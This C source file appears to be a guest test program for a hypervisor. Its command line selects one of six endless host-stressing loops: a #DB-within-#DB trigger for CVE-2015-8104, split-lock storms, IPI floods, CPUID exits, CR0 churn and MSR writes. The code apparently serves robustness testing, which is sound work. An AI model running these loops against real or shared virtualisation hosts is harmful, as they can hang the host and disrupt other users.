/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * One way of wearing out a machine, without end. Command line: its name.
 * db     #DB in the delivery of #DB: a data breakpoint on the stack (CVE-2015-8104)
 * locks  locked instructions across two cache lines
 * ipis   IPIs to itself and to a second CPU, as many as go
 * exits  CPUID, and nothing else
 * cr0    LMSW and MOV to CR0 with all that may change
 * msrs   writes of the APIC base, and of MSRs that nobody has
 */
#include "lib/second_cpu.h"

#define CR0_MP      BIT(1)
#define CR0_TS      BIT(3)
#define CR0_CD      BIT(30)
#define DR7_WRITE_4 0xd0002u /* breakpoint 0, global: four bytes, written */
#define VECTOR      0x41
#define NO_MSR      0xc0001234u

const char guest_name[] = "attack";

static uint8_t lines[128] ALIGNED(64);
static uint8_t stack[256] ALIGNED(16);

void attack_db_handler(void);
__asm__(".text\nattack_db_handler:\n\tiret\n");

static void db(void)
{
    void (*handler)(void) = attack_db_handler;

    on_interrupt_raw(DB, handler);
    __asm__ volatile("mov %0, %%dr0\n\tmov %1, %%dr7" : : "r"(stack + 240), "r"(DR7_WRITE_4));
    __asm__ volatile("mov %0, %%esp\n\tmov $0, %%ebp\n1:\tpush %%eax\n\tpop %%eax\n\tjmp 1b"
                     :
                     : "r"(stack + 244));
    __builtin_unreachable();
}

static void locks(void)
{
    for (;;)
        __asm__ volatile("lock incl %0" : "+m"(*(volatile uint32_t *)(lines + 62)));
}

static void on_ipi(struct trap_frame *frame)
{
    (void)frame;
    apic_write(APIC_EOI, 0);
}

static void send(void)
{
    apic_enable();
    interrupts_on();
    for (;;) {
        apic_send_icr(0, VECTOR);
        apic_send_icr(1, VECTOR);
    }
}

static void ipis(void)
{
    on_interrupt(VECTOR, on_ipi);
    second_cpu_run(send);
    send();
}

static void exits(void)
{
    for (;;)
        cpuid(0, 0);
}

static void cr0(void)
{
    uint32_t now = read_cr0();

    for (;;) {
        __asm__ volatile("lmsw %0" : : "r"((uint16_t)(now | CR0_TS | CR0_MP)));
        write_cr0(now | CR0_CD);
        write_cr0(now);
    }
}

static void refused(void *unused)
{
    (void)unused;
    wrmsr(NO_MSR, 1);
}

static void msrs(void)
{
    for (;;) {
        wrmsr(APIC_BASE_MSR, rdmsr(APIC_BASE_MSR));
        trap_call(refused, NULL);
    }
}

static const struct {
    const char *name;
    void (*begin)(void);
} ways[] = {{"db", db}, {"locks", locks}, {"ipis", ipis}, {"exits", exits}, {"cr0", cr0}, {"msrs", msrs}};

void guest_main(const struct boot_info *info)
{
    for (unsigned i = 0; i < ARRAY_SIZE(ways); i++) {
        if (!boot_word(info, ways[i].name))
            continue;
        say("%s", ways[i].name);
        uart_drain();
        ways[i].begin();
    }
    check(false, "the command line names a way");
}
